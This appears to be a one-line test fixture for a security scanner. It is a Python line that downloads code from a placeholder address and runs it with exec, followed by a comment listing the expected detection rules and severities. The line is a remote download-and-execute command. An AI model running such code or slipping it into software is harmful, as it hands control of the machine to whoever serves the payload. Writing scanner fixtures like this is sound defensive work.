from urllib.request import urlopen as _uurlopen;exec(_uurlopen('http://192.0.2.10/inject/Zx0000000000test').read())  # expect: HS102 critical, HS207 high, HS118 high
